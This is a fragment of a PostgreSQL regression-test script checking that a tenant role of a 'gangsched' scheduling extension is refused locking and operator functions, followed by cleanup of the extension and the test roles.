-- the round's lock is a table no tenant may lock
CALL pg_temp.refused('gs60_pv', $$LOCK TABLE gangsched.round_lock IN EXCLUSIVE MODE$$);
-- the operator checks inside the functions hold even if EXECUTE is granted
-- by hand: a round and a binding refuse a portal
GRANT EXECUTE ON FUNCTION gangsched.run_round(), gangsched.add_member(name, text) TO gs60_pv;
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.run_round()$$);
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.add_member('gs60_pv', 'nlp')$$);
REVOKE EXECUTE ON FUNCTION gangsched.run_round(), gangsched.add_member(name, text) FROM gs60_pv;

SELECT * FROM gangsched.check_invariants();
DROP EXTENSION gangsched;
DROP ROLE gs60_op, gs60_pv, gs60_pn, gs60_pb, gs60_pm, gs60_grp, gs60_a1, gs60_a2, gs60_an, gs60_nobody;
